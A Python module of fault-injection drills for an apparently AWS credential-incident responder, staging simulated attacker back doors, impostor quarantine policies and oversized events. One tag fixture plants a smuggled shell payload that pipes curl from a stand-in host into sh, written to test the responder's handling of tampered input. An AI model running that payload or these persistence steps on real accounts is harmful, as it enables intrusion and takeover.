"""Fault drills: the response under throttling, denial, missing resources, guard rails and repeats.

Each scenario names an event, what to do to the simulated account (before the run, or as a fault
injected into the AWS calls the handlers make) and the outcome a responder should get. Every one
must end with a notification, except a repeat in which nothing changed, which is recorded
silently; none may leave the workflow silent on a failure.
"""

from __future__ import annotations

import copy
import json
import os
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from botocore.exceptions import ClientError

from common.times import iso, iso_now
from drill.account import Fault, SimulatedAccount
from drill.staging import Staged

EVENTS = Path(__file__).resolve().parent.parent / "tests" / "events"
# The Health event of the history drills: the CI deploy key of ci-deployer, exposed 2026-11-19 09:12:40 UTC.
CI_KEY_EVENT = "crafted/health_ci_key_exposed.json"


@dataclass(frozen=True)
class Scenario:
    name: str
    event: str
    expected: str
    what: str
    setup: Callable[[SimulatedAccount, Staged], None] | None = None
    faults: Callable[[], list[Fault]] = field(default=lambda: [])
    environment: dict[str, str] = field(default_factory=dict)
    deliveries: int = 1
    redeliver: Callable[[Any], Any] | None = None
    between: Callable[[SimulatedAccount, Staged], None] | None = None
    cloudtrail: str | None = None  # a history in tests/events/cloudtrail/ (docs/drill.md)
    account: str | None = None  # an account file in tests/events/accounts/ (which may hold the history)
    # After the last delivery (its state is `observed`): what a person then does, such as a release;
    # its result is `after`, and the state read back then `observed_after`.
    after: Callable[[SimulatedAccount, Staged], Any] | None = None

    @property
    def path(self) -> Path:
        return EVENTS / self.event


def _error(code: str, operation: str) -> ClientError:
    return ClientError({"Error": {"Code": code, "Message": f"injected by the drill: {code}"}}, operation)


def fail(service: str, operation: str, code: str, times: int | None = None) -> Callable[[], list[Fault]]:
    """A fault raising `code` on the first `times` calls of service:operation (every call if None)."""

    def make() -> list[Fault]:
        remaining = [times]

        def fault(called_service: str, called_operation: str, params: dict[str, Any]) -> Exception | None:
            if (called_service, called_operation) != (service, operation):
                return None
            if remaining[0] is None:
                return _error(code, operation)
            if remaining[0] > 0:
                remaining[0] -= 1
                return _error(code, operation)
            return None

        return [fault]

    return make


def _delete_exposed_key(account: SimulatedAccount, staged: Staged) -> None:
    iam = account.client("iam")
    for key in staged.access_key_ids:
        iam.delete_access_key(UserName=staged.users[0], AccessKeyId=key)


def _delete_user(account: SimulatedAccount, staged: Staged) -> None:
    iam = account.client("iam")
    for user in staged.users:
        for key in iam.list_access_keys(UserName=user)["AccessKeyMetadata"]:
            iam.delete_access_key(UserName=user, AccessKeyId=key["AccessKeyId"])
        iam.delete_user(UserName=user)


def _terminate_instance(account: SimulatedAccount, staged: Staged) -> None:
    account.client("ec2", staged.region).terminate_instances(InstanceIds=staged.instances)


def _in_auto_scaling_group(account: SimulatedAccount, staged: Staged) -> None:
    ec2 = account.client("ec2", staged.region)
    autoscaling = account.client("autoscaling", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    template = ec2.create_launch_template(
        LaunchTemplateName="web", LaunchTemplateData={"ImageId": instance["ImageId"], "InstanceType": "t3.micro"}
    )["LaunchTemplate"]["LaunchTemplateId"]
    autoscaling.create_auto_scaling_group(
        AutoScalingGroupName="web-asg",
        LaunchTemplate={"LaunchTemplateId": template},
        MinSize=0,
        MaxSize=3,
        DesiredCapacity=0,
        VPCZoneIdentifier=instance["SubnetId"],
    )
    autoscaling.attach_instances(InstanceIds=staged.instances, AutoScalingGroupName="web-asg")
    staged.notes.append(f"instance {staged.instances[0]} attached to Auto Scaling group web-asg")


def _forget_incidents(account: SimulatedAccount, staged: Staged) -> None:
    """As if the incident record had expired or someone started the response again by hand."""
    dynamodb = account.client("dynamodb")
    for table in dynamodb.list_tables()["TableNames"]:
        for item in dynamodb.scan(TableName=table)["Items"]:
            dynamodb.delete_item(TableName=table, Key={"id": item["id"]})


def _count_rises(event: Any) -> Any:
    """The repeat GuardDuty sends while the credentials are still in use: same id, higher count,
    sent later than the first response's cut-off (which is rounded up to the next second)."""
    event = json.loads(json.dumps(event))
    time.sleep(2.05 - time.time() % 1)
    now = iso_now()
    event["id"] = "2f6c8e1a-4b3d-4c2e-9f10-0a1b2c3d4e5f"
    event["time"] = now
    event["detail"]["updatedAt"] = now
    event["detail"]["service"]["count"] = int(event["detail"]["service"].get("count") or 1) + 4
    event["detail"]["service"]["eventLastSeen"] = now
    return event


def _note_first_cutoff(account: SimulatedAccount, staged: Staged) -> None:
    from drill.observe import revoke_cutoff

    for role in staged.roles:
        staged.notes.append(f"first cut-off of {role}: {revoke_cutoff(account, role)}")


# -- incident record (dedupe)


def _reply_lost(service: str, operation: str) -> Callable[[], list[Fault]]:
    """The first `service:operation` applies, then fails as if its reply was lost (a transient
    error after the write): the task is retried inside the same execution."""

    def make() -> list[Fault]:
        remaining = [1]

        def fault(called_service: str, called_operation: str, params: dict[str, Any]) -> Exception | None:
            if (called_service, called_operation) != (service, operation) or not remaining[0]:
                return None
            remaining[0] -= 1
            return _error("InternalServerError", operation)

        fault.after_call = True  # type: ignore[attr-defined]
        return [fault]

    return make


def _stuck_record(account: SimulatedAccount, staged: Staged) -> None:
    """A record left `responding` by an execution that died, older than the workflow's timeout."""
    from incident.normalize import normalize  # the fresh module of this simulated account
    from record.store import DEFAULT_STALE_AFTER_SECONDS, register

    incident = normalize(staged.event).incident
    assert incident is not None, "the stuck-record drill needs an event the responder acts on"
    stale_after = int(os.environ.get("INCIDENT_STALE_AFTER_SECONDS") or DEFAULT_STALE_AFTER_SECONDS)
    dynamodb = account.client("dynamodb")
    (table,) = dynamodb.list_tables()["TableNames"]
    dead = "arn:aws:states:us-east-1:123456789012:execution:CredentialResponder:died-before-reporting"
    started = datetime.now(UTC) - timedelta(seconds=stale_after + 60)
    register(dynamodb, table, incident.model_dump(mode="json"), execution_arn=dead, now=started)
    staged.notes.append(f"incident record left responding by {dead} since {iso(started)}")


# -- investigation (issue 12 item 6: state size, exemptions; issue 14 items 1-3: what the trail can hide)
# CloudTrail records written for these drills (no public trail shows them): the drill makes them the
# staged incident's story (drill/scenario.py: the exposed key, its owner, times after the exposure).
TRAIL_KEY = "AKIADRILLEXPOSED0001"  # any IAM user's AKIA key in a record becomes the staged exposed key
EXEMPT_CREATED_KEY = "AKIADRILLCREATED0001"
NOISY_BACKDOOR_KEY = "AKIADRILLBACKDOOR001"
WORKLOAD_KEY = "AKIADRILLWORKLOAD001"
THIEF_KEY = "AKIADRILLTHIEFKEY001"
NOISE_CALLS = 1500
LARGEST_EVENT_BYTES = 255 * 1024  # EventBridge delivers events up to 256 KB
# What the isolation leaves on an instance and in its VPC, as anyone reading the account sees it (docs/response.md):
# an attacker who plants a tag, or a dead attempt's leftovers, is written here in AWS's terms, not with the product's
# code. tests/unit/test_drill_files.py pins these to the product's own.
UNTRACK_GROUP = "credential-responder-untrack"
PURPOSE_TAG = "credential-responder:purpose"
ORIGINAL_TAG = "credential-responder:original-sgs"
TAG_VALUE_LIMIT = 256


def original_groups_tags(originals: dict[str, list[str]], incident_id: str) -> list[dict[str, str]]:
    """The instance's record of its original groups: compact JSON, cut into tag values of at most 256 characters."""
    text = json.dumps({"incident": incident_id, "groups": originals}, separators=(",", ":"), sort_keys=True)
    chunks = [text[i : i + TAG_VALUE_LIMIT] for i in range(0, len(text), TAG_VALUE_LIMIT)]
    return [{"Key": ORIGINAL_TAG if n == 1 else f"{ORIGINAL_TAG}:{n}", "Value": c} for n, c in enumerate(chunks, 1)]


def _trail_time(seconds: int) -> str:
    return f"2026-01-01T{seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}Z"


def _user_call(event_name: str, seconds: int, **kwargs: Any) -> dict[str, Any]:
    from drill.cloudtrail_fake import make_record

    return make_record(event_name, access_key_id=TRAIL_KEY, event_time=_trail_time(seconds), **kwargs)


def _created_key(user: str, key_id: str) -> dict[str, Any]:
    return {"accessKey": {"accessKeyId": key_id, "userName": user, "status": "Active"}}


def _trail(account: SimulatedAccount, staged: Staged, records: list[dict[str, Any]]) -> None:
    from drill.scenario import install_cloudtrail

    install_cloudtrail(account, staged, records)


def _exempt_automation_trail(account: SimulatedAccount, staged: Staged) -> None:
    """The exempted automation user's job: creating keys for another user."""
    _trail(
        account,
        staged,
        [
            _user_call(
                "CreateAccessKey",
                0,
                request={"userName": "report-uploader"},
                response=_created_key("report-uploader", EXEMPT_CREATED_KEY),
            )
        ],
    )


def _impostor_trail(account: SimulatedAccount, staged: Staged) -> None:
    """AWS's real quarantine of the exposed user, and two policies only named like it."""
    owner = staged.users[0]
    allow_all = json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    )
    _trail(
        account,
        staged,
        [
            _user_call("CreateUser", 0, request={"userName": "backdoor-admin"}),
            _user_call(
                "PutUserPolicy",
                10,
                request={
                    "userName": "backdoor-admin",
                    "policyName": "AWSCompromisedKeyQuarantineV3",
                    "policyDocument": allow_all,
                },
            ),
            _user_call(
                "AttachRolePolicy",
                20,
                request={
                    "roleName": "backdoor-role",
                    "policyArn": f"arn:aws:iam::{account.account_id}:policy/AWSCompromisedKeyQuarantineV9",
                },
            ),
            _user_call(
                "AttachUserPolicy",
                30,
                request={"userName": owner, "policyArn": "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"},
                user_agent="aws-internal/3 aws-sdk-java/1.12.0",
            ),
        ],
    )


def _noisy_trail(account: SimulatedAccount, staged: Staged) -> None:
    """A back-door key, then more cheap calls than one look-up reads (newest first)."""
    backdoor = _user_call(
        "CreateAccessKey",
        0,
        request={"userName": "backdoor-user"},
        response=_created_key("backdoor-user", NOISY_BACKDOOR_KEY),
    )
    noise = [_user_call("GetCallerIdentity", 1 + i, event_source="sts.amazonaws.com") for i in range(NOISE_CALLS)]
    _trail(account, staged, [backdoor, *noise])


def _workload_key_trail(account: SimulatedAccount, staged: Staged) -> None:
    """The instance's own process creates a key (its job), and the thief creates one from outside."""
    from drill.cloudtrail_fake import session_record

    detail = staged.event["detail"]
    instance = detail["resource"]["instanceDetails"]
    own_ip = instance["networkInterfaces"][0]["privateIpAddress"]
    thief_ip = detail["service"]["action"]["awsApiCallAction"]["remoteIpDetails"]["ipAddressV4"]
    common = {"instance_id": staged.instances[0], "role": staged.roles[0], "account_id": account.account_id}
    _trail(
        account,
        staged,
        [
            session_record(
                "CreateAccessKey",
                event_time=_trail_time(0),
                source_ip=own_ip,
                vpc_endpoint_id="vpce-0drill0000000001",
                request={"userName": "app-uploader"},
                response=_created_key("app-uploader", WORKLOAD_KEY),
                **common,
            ),
            session_record(
                "CreateAccessKey",
                event_time=_trail_time(60),
                source_ip=thief_ip,
                request={"userName": "thief-door"},
                response=_created_key("thief-door", THIEF_KEY),
                **common,
            ),
        ],
    )


def _largest_state(account: SimulatedAccount, staged: Staged) -> None:
    """The biggest deliverable event (a Health event padded to 255 KB) with the biggest investigation:
    thousands of persistence calls, failed and not, long names, a hundred back-door keys, more noise."""
    metadata = staged.event["detail"].setdefault("eventMetadata", {})
    staged.event["detail"]["eventDescription"][0]["latestDescription"] += " " + "padding " * 2000
    index = 0
    while (missing := LARGEST_EVENT_BYTES - len(json.dumps(staged.event).encode())) > 200:
        for _ in range(max(1, missing // 130)):  # one key with its value is ~120 bytes of JSON
            metadata[f"drillPadding{index:05d}"] = "x" * 100
            index += 1
    staged.notes.append(f"event padded to {len(json.dumps(staged.event).encode())} bytes")
    records: list[dict[str, Any]] = []
    for i in range(1200):  # denied by DryRun: cheap, and each one a persistence call in the summary
        records.append(
            _user_call(
                "RunInstances",
                i,
                event_source="ec2.amazonaws.com",
                error_code="Client.DryRunOperation",
                request={"instanceType": "p4d.24xlarge", "imageId": "ami-0" + "f" * 16, "userData": "x" * 300},
            )
        )
    for i in range(300):
        user = f"backdoor-{i:03d}-" + "u" * 50
        records.append(_user_call("CreateUser", 1200 + i, request={"userName": user}))
        if i < 120:
            records.append(
                _user_call(
                    "CreateAccessKey",
                    1500 + i,
                    request={"userName": user},
                    response=_created_key(user, f"AKIADRILLFLOOD{i:06d}"),
                )
            )
    for i in range(400):
        records.append(
            _user_call(
                "PutUserPolicy",
                1700 + i,
                error_code="AccessDenied",
                request={"userName": "p" * 64, "policyName": "n" * 128, "policyDocument": "{" + "d" * 2000 + "}"},
            )
        )
    records += [_user_call("GetCallerIdentity", 2200 + i, event_source="sts.amazonaws.com") for i in range(1000)]
    _trail(account, staged, records)


# IAM's limits: a role's inline policies together hold at most 10,240 characters, its trust policy 2,048 (the
# default quota). Single quotes are the costliest character once a document is shell-quoted into a command
# (' becomes '"'"'), which is how the state once outgrew Step Functions' 256 KiB (review N6).
ROLE_INLINE_LIMIT = 10_240
TRUST_LIMIT = 2_048
LARGEST_ROLES = 6


def _quote_heavy(limit: int, statement: dict[str, Any]) -> str:
    """A policy document of exactly `limit` characters, its condition value all single quotes."""
    document = {
        "Version": "2012-10-17",
        "Statement": [{**statement, "Condition": {"StringEquals": {"aws:PrincipalTag/x": ""}}}],
    }
    padding = limit - len(json.dumps(document, separators=(",", ":")))
    document["Statement"][0]["Condition"]["StringEquals"]["aws:PrincipalTag/x"] = "'" * padding
    text = json.dumps(document, separators=(",", ":"))
    assert len(text) == limit
    return text


def _largest_eviction(account: SimulatedAccount, staged: Staged) -> None:
    """The attacker's roles carry the largest documents IAM allows (a trust policy and an inline policy at their
    limits, quote-heavy), on more roles than the review's four, made with the exposed key after a baseline."""
    from drill.history import parse_history
    from drill.scenario import install_cloudtrail

    trust = _quote_heavy(
        TRUST_LIMIT,
        {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::666666666666:root"}, "Action": "sts:AssumeRole"},
    )
    policy = _quote_heavy(ROLE_INLINE_LIMIT, {"Effect": "Allow", "Action": "*", "Resource": "*"})
    history: list[dict[str, Any]] = []
    for index in range(LARGEST_ROLES):
        name = f"ops-automation-{index}"
        history += [
            {"at": f"+{4 + index}m", "by": "exposed", "from": "vps-go", "call": "CreateRole",
             "request": {"roleName": name, "assumeRolePolicyDocument": trust}},
            {"at": f"+{4 + index}m30s", "by": "exposed", "from": "vps-go", "call": "PutRolePolicy",
             "request": {"roleName": name, "policyName": "ops", "policyDocument": policy}},
        ]  # fmt: skip
    scenario = {
        "description": "the attacker's roles carry the largest documents IAM allows (drill/faults.py)",
        "include": ["owner_ci_routine.json"],
        "history": history,
    }
    install_cloudtrail(
        account, staged, parse_history(scenario, base=EVENTS / "cloudtrail", origin="evict-largest-state")
    )
    staged.notes.append(
        f"{LARGEST_ROLES} roles with a {TRUST_LIMIT}-character trust and a {ROLE_INLINE_LIMIT}-character policy"
    )


BUSY_EVENTS = 10_000


def _busy_account(account: SimulatedAccount, staged: Staged) -> None:
    """A busy account: in the look-up window, 10,000 calls of other principals (a CI role creating roles and
    keys, an application reading), beside the exposed key's back door. The responder's look-ups are filtered at
    the source, so they read none of them."""
    from drill.cloudtrail_fake import make_record
    from drill.history import parse_history
    from drill.scenario import install_cloudtrail
    from drill.timeline import exposure_moment

    scenario = {
        "description": "busy-account: the exposed key's back door beside 10,000 calls of other principals",
        "include": ["owner_ci_routine.json"],
        "history": [
            {"at": "+4m", "by": "exposed", "from": "vps-go", "call": "CreateUser", "request": {"userName": "svc-sync"}},
            {"at": "+5m", "by": "exposed", "from": "vps-go", "call": "CreateAccessKey",
             "request": {"userName": "svc-sync"}, "key": "door"},
        ],
    }  # fmt: skip
    factory = install_cloudtrail(
        account, staged, parse_history(scenario, base=EVENTS / "cloudtrail", origin="busy-account")
    )
    start = exposure_moment(staged.event)
    names = ("CreateRole", "CreateAccessKey", "PutRolePolicy", "AssumeRole", "GetObject", "DescribeInstances")
    noise = [
        make_record(
            names[i % len(names)],
            access_key_id=f"AKIABUSYCIROLE{i % 7:06d}",
            user_name=f"ci-{i % 7}",
            event_time=start + timedelta(seconds=i % 3000),
            source_ip=f"20.42.{i % 250}.{i % 199}",
            request={"roleName": f"app-{i}"} if i % len(names) in (0, 2) else None,
        )
        for i in range(BUSY_EVENTS)
    ]
    factory.add(*noise)
    staged.notes.append(f"{BUSY_EVENTS} calls of other principals in the look-up window")


def _largest_instance_state(account: SimulatedAccount, staged: Staged) -> None:
    """largest-state on the stolen-instance path, where every Parallel branch output is a full copy of the
    state: a GuardDuty finding padded to 255 KB, and the thief's thousands of calls with the session."""
    from drill.cloudtrail_fake import session_record

    detail = staged.event["detail"]
    extra = detail["service"].setdefault("additionalInfo", {})
    index = 0
    while (missing := LARGEST_EVENT_BYTES - len(json.dumps(staged.event).encode())) > 200:
        for _ in range(max(1, missing // 130)):
            extra[f"drillPadding{index:05d}"] = "x" * 100
            index += 1
    thief_ip = detail["service"]["action"]["awsApiCallAction"]["remoteIpDetails"]["ipAddressV4"]
    common = {"instance_id": staged.instances[0], "role": staged.roles[0], "account_id": account.account_id}
    records = [
        session_record(
            "RunInstances",
            event_time=_trail_time(i),
            source_ip=thief_ip,
            event_source="ec2.amazonaws.com",
            error_code="Client.DryRunOperation",
            request={"instanceType": "p4d.24xlarge", "userData": "x" * 300},
            **common,
        )
        for i in range(1500)
    ]
    for i in range(100):
        user = f"door-{i:03d}-" + "u" * 50
        records.append(
            session_record(
                "CreateUser", event_time=_trail_time(1500 + i), source_ip=thief_ip, request={"userName": user}, **common
            )
        )
        records.append(
            session_record(
                "CreateAccessKey",
                event_time=_trail_time(1600 + i),
                source_ip=thief_ip,
                request={"userName": user},
                response=_created_key(user, f"AKIADRILLDOOR{i:07d}"),
                **common,
            )
        )
    records += [
        session_record(
            "GetCallerIdentity",
            event_time=_trail_time(1700 + i),
            source_ip=thief_ip,
            event_source="sts.amazonaws.com",
            **common,
        )
        for i in range(1000)
    ]
    _trail(account, staged, records)


# -- exposed key (contain_key)


def _key_of_another_user(account: SimulatedAccount, staged: Staged) -> None:
    """The event names test-1, but the exposed key is bob's."""
    iam = account.client("iam")
    iam.create_user(UserName="bob")
    key = iam.create_access_key(UserName="bob")["AccessKey"]["AccessKeyId"]
    text = json.dumps(staged.event)
    for named in staged.access_key_ids:
        text = text.replace(named, key)
    staged.event = json.loads(text)
    staged.users.append("bob")
    staged.access_key_ids = [key]
    staged.notes.append(f"the event's key is {key}, a key of bob; the event still names test-1")


def _session_minted_from_the_key(account: SimulatedAccount, staged: Staged) -> None:
    """The attacker turned the key into a session (GetSessionToken) before containment."""
    credentials = account.client("sts").get_session_token(DurationSeconds=3600)["Credentials"]
    issued = credentials["Expiration"] - timedelta(seconds=3600)
    staged.notes.append(f"session {credentials['AccessKeyId']} issued at {iso(issued)}")


class _TwoPages:
    """A Health event in two pages with the same communicationId, one key on each."""

    second_key = ""

    def setup(self, account: SimulatedAccount, staged: Staged) -> None:
        iam = account.client("iam")
        iam.create_user(UserName="deploy-bot")
        self.second_key = iam.create_access_key(UserName="deploy-bot")["AccessKey"]["AccessKeyId"]
        staged.event["detail"]["totalPages"] = "2"
        staged.users.append("deploy-bot")
        staged.access_key_ids.append(self.second_key)
        staged.notes.append(f"page 1 names {staged.access_key_ids[0]}; page 2 names {self.second_key} of deploy-bot")

    def redeliver(self, event: Any) -> Any:
        event = json.loads(json.dumps(event))
        event["id"] = "3a4b5c6d-7e8f-4a0b-9c1d-2e3f4a5b6c7d"
        detail = event["detail"]
        detail["page"] = "2"
        detail["affectedEntities"] = [{"entityValue": self.second_key}]
        detail["eventMetadata"].update(publicKey=self.second_key, userName="deploy-bot")
        event["resources"] = [self.second_key]
        return event


_PAGES = _TwoPages()
# -- evict (issue 18): the back doors an attacker leaves, and the owner's own changes


def _backdoor_trail(account: SimulatedAccount, staged: Staged) -> None:
    """The bundled back-door trail, staged as what the exposed key did after the exposure."""
    from drill.scenario import install_cloudtrail, load_records

    install_cloudtrail(account, staged, load_records(EVENTS / "cloudtrail" / "leaked_user_key_backdoor.json"))


def _owner_activity(account: SimulatedAccount, staged: Staged) -> None:
    """The key's owner, hours before the exposure (before the window of suspicion opens, an hour before it) and
    from its usual address and client, created a role and a key for a release bot: what a CI key does all day.
    The calls are in CloudTrail and in the account."""
    from datetime import timedelta

    from drill.cloudtrail_fake import FakeCloudTrailFactory, make_record
    from drill.scenario import _exposure_time
    from investigate import handler  # the fresh module of this simulated account

    iam = account.client("iam")
    exposed = _exposure_time(staged.event)
    usual = {"source_ip": "198.51.100.7", "user_agent": "aws-cli/2.15.0 Python/3.11 exec-env/ci-runner"}
    owner, key = staged.users[0], staged.access_key_ids[0]
    trust = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}],
    }
    iam.create_role(RoleName="ci-deploy-role", AssumeRolePolicyDocument=json.dumps(trust))
    iam.create_user(UserName="release-bot")
    minted = iam.create_access_key(UserName="release-bot")["AccessKey"]["AccessKeyId"]
    staged.users.append("release-bot")
    staged.created.setdefault("roles", []).append("ci-deploy-role")
    staged.notes.append(f"the owner's role ci-deploy-role and release-bot's key {minted}, made before the exposure")

    def call(name: str, hours: float, **kwargs: Any) -> dict[str, Any]:
        moment = exposed - timedelta(hours=hours)
        return make_record(name, access_key_id=key, event_time=moment, user_name=owner, **usual, **kwargs)

    records = [
        call("GetCallerIdentity", 3, event_source="sts.amazonaws.com"),
        call(
            "CreateRole",
            2,
            request={"roleName": "ci-deploy-role", "assumeRolePolicyDocument": json.dumps(trust)},
            response={"role": {"roleName": "ci-deploy-role"}},
        ),
        call(
            "CreateAccessKey",
            1.5,
            request={"userName": "release-bot"},
            response={"accessKey": {"accessKeyId": minted, "userName": "release-bot", "status": "Active"}},
        ),
    ]
    handler.cloudtrail_client = FakeCloudTrailFactory(records)  # type: ignore[assignment]


# -- instance: load balancers, instance profile, isolation under attack


def _behind_load_balancers(account: SimulatedAccount, staged: Staged) -> None:
    """The web tier: the instance is a target of an ALB target group and a member of a Classic Load Balancer."""
    ec2 = account.client("ec2", staged.region)
    elbv2, elb = account.client("elbv2", staged.region), account.client("elb", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    group = elbv2.create_target_group(
        Name="web-targets", Protocol="HTTP", Port=8080, VpcId=instance["VpcId"], TargetType="instance"
    )["TargetGroups"][0]["TargetGroupArn"]
    elbv2.register_targets(TargetGroupArn=group, Targets=[{"Id": staged.instances[0], "Port": 8080}])
    elb.create_load_balancer(
        LoadBalancerName="legacy-web",
        Listeners=[{"Protocol": "HTTP", "LoadBalancerPort": 80, "InstancePort": 8080}],
        AvailabilityZones=[instance["Placement"]["AvailabilityZone"]],
    )
    elb.register_instances_with_load_balancer(
        LoadBalancerName="legacy-web", Instances=[{"InstanceId": staged.instances[0]}]
    )
    staged.notes.append(
        f"instance {staged.instances[0]} registered in target group web-targets and Classic LB legacy-web"
    )


def _incident_id(staged: Staged) -> str:
    """The id Normalize gives a GuardDuty finding (the instance tag of an earlier attempt carries it)."""
    return (
        f"{staged.event['detail'].get('accountId') or staged.event['account']}:guardduty:{staged.event['detail']['id']}"
    )


def _left_on_the_all_open_group(account: SimulatedAccount, staged: Staged) -> None:
    """What an attempt killed by a Lambda timeout between the two swaps leaves: the responder's copy
    of the original groups on the instance, the all-open group open, and one interface on it."""
    ec2 = account.client("ec2", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    primary = next(e for e in instance["NetworkInterfaces"] if e["Attachment"]["DeviceIndex"] == 0)
    untrack = ec2.create_security_group(
        GroupName=UNTRACK_GROUP,
        Description="left by a dead attempt",
        VpcId=primary["VpcId"],
        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": "untrack"}]}],
    )["GroupId"]
    ec2.authorize_security_group_ingress(
        GroupId=untrack, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    )
    originals = {
        eni["NetworkInterfaceId"]: [g["GroupId"] for g in eni["Groups"]] for eni in instance["NetworkInterfaces"]
    }
    ec2.create_tags(Resources=staged.instances, Tags=original_groups_tags(originals, _incident_id(staged)))
    ec2.modify_network_interface_attribute(NetworkInterfaceId=primary["NetworkInterfaceId"], Groups=[untrack])
    staged.notes.append(f"{primary['NetworkInterfaceId']} left on the open all-open group {untrack}")


def _timeout_on_second_swap() -> list[Fault]:
    """The call that moves an interface from the all-open group to the isolation group dies once
    without an answer from AWS (not a ClientError): the second of two calls for one interface."""
    from botocore.exceptions import ReadTimeoutError

    state: dict[str, Any] = {"before": None, "raised": False}

    def fault(service: str, operation: str, params: dict[str, Any]) -> Exception | None:
        if (service, operation) != ("ec2", "ModifyNetworkInterfaceAttribute"):
            return None
        eni = params.get("NetworkInterfaceId")
        second, state["before"] = eni == state["before"], eni
        if second and not state["raised"]:
            state["raised"] = True
            return ReadTimeoutError(endpoint_url=f"https://ec2.amazonaws.com/?eni={eni}")
        return None

    return [fault]


def _tampered_tag(account: SimulatedAccount, staged: Staged) -> None:
    """Before the response, the attacker rewrites the original-groups tag: a shell payload for the
    instance's interface, and another interface (not the instance's) with a group of the attacker's."""
    ec2 = account.client("ec2", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    primary = instance["NetworkInterfaces"][0]
    other = ec2.create_network_interface(SubnetId=primary["SubnetId"])["NetworkInterface"]["NetworkInterfaceId"]
    staged.mapping["attacker-eni"] = other
    planted = {primary["NetworkInterfaceId"]: ["sg-1;curl${IFS}evil|sh"], other: [primary["Groups"][0]["GroupId"]]}
    ec2.create_tags(
        Resources=staged.instances,
        Tags=[{"Key": ORIGINAL_TAG, "Value": json.dumps({"incident": _incident_id(staged), "groups": planted})}],
    )
    staged.notes.append(f"original-groups tag rewritten by the attacker (shell payload, foreign ENI {other})")


# -- repeats (issue 25): every delivery judged by what it names, every response kept


class _LaterDeliveries:
    """Later events of the same attack, delivered one after another (redeliver) to the account of
    the scenario's first event. They are staged in `setup`, before anything runs, as `--sequence`
    stages them (the ids the events share name the same users, keys, roles and instances), so that
    `observed` and `observed_before` cover every principal they name."""

    def __init__(self, *events: str) -> None:
        self.files = events
        self.staged: list[Any] = []
        self.delivered = 0

    def setup(self, account: SimulatedAccount, staged: Staged) -> None:
        from drill.staging import stage

        self.staged, self.delivered = [], 0
        base = staged
        for name in self.files:
            later = stage(account, json.loads((EVENTS / name).read_text()), base=base)
            self.staged.append(later.event)
            for attribute in ("users", "access_key_ids", "roles", "instances"):
                known = getattr(staged, attribute)
                known += [item for item in getattr(later, attribute) if item not in known]
            staged.mapping.update(later.mapping)
            staged.notes += [f"{name}: {note}" for note in later.notes]
            base = later

    def redeliver(self, event: Any) -> Any:
        self.delivered += 1
        return copy.deepcopy(self.staged[self.delivered - 1])

    def finding_id(self, index: int) -> str:
        """The incident id the report of later event `index` prints for the finding itself."""
        event = self.staged[index]
        return f"{event['detail']['accountId']}:guardduty:{event['detail']['id']}"


def release_as_the_cli_does(account: SimulatedAccount, staged: Staged, incident_id: str) -> dict[str, Any]:
    """What `python -m responder release INCIDENT_ID --yes` does, with the simulated account's clients:
    the record the id leads to, every response's steps, each reversal read back, the release recorded."""
    from record.item import load
    from record.responses import release_steps
    from responder.release import mark_released, plan, record_timeline, release, resolve

    table = os.environ["INCIDENT_TABLE"]
    dynamodb = account.client("dynamodb")
    record_id, record = resolve(dynamodb, table, incident_id)
    reversals, notes = plan(
        release_steps(record, account.client("s3")),
        iam=account.client("iam"),
        ec2=account.client("ec2", staged.region),
        autoscaling=account.client("autoscaling", staged.region),
        elbv2=account.client("elbv2", staged.region),
        elb=account.client("elb", staged.region),
    )
    outcomes = release(
        reversals,
        confirm=lambda reversal: True,
        record=lambda what: record_timeline(dynamodb, table, record_id, what),
    )
    released = mark_released(dynamodb, table, record_id, record, outcomes, notes, by="drill")
    after = load(dynamodb, table, record_id) or {}
    return {
        "released_by_id": incident_id,
        "record": record_id,
        "release": released,
        "status": after.get("status"),
        "responses": [r.get("kind") for r in after.get("responses") or []],
        "outcomes": [(o.reversal.what, o.status) for o in outcomes],
        "notes": notes,
        "timeline": [entry["what"] for entry in after.get("timeline") or []],
    }


_NEW_KEY = _LaterDeliveries("crafted/guardduty_attack_sequence_iam_user_key_update_new_key.json")
_JOINED_UPDATE = _LaterDeliveries(
    "crafted/guardduty_attack_sequence_covers_exfil.json",
    "crafted/guardduty_attack_sequence_covers_exfil_update_new_key.json",
)
_JOINED = _LaterDeliveries("crafted/guardduty_attack_sequence_covers_exfil.json")


def _release_by_the_joined_id(account: SimulatedAccount, staged: Staged) -> dict[str, Any]:
    # The joined sequence's report prints its own finding's id beside the record's: the one with no
    # record of its own before the alias existed.
    return release_as_the_cli_does(account, staged, _JOINED.finding_id(0))


SCENARIOS = {
    scenario.name: scenario
    for scenario in (
        Scenario(
            "iam-throttling",
            "health_exposed_key_classic.json",
            "contained",
            "IAM throttles UpdateAccessKey twice; the task is retried with backoff and succeeds",
            faults=fail("iam", "UpdateAccessKey", "Throttling", times=2),
        ),
        Scenario(
            "access-denied",
            "health_exposed_key_classic.json",
            "partial",
            "AttachUserPolicy is denied: the key is still deactivated, the quarantine step fails "
            "with the command to finish it by hand",
            faults=fail("iam", "AttachUserPolicy", "AccessDenied"),
        ),
        Scenario(
            "key-already-deleted",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "someone deleted the exposed key first: a deleted key cannot authenticate",
            setup=_delete_exposed_key,
        ),
        Scenario(
            "user-deleted",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "the key's user no longer exists (its keys went with it)",
            setup=_delete_user,
        ),
        Scenario(
            "unknown-key",
            "health_exposed_key_classic.json",
            "partial",
            "IAM answers NoSuchEntity for the key (deleted with its user) and the event names no user: the key "
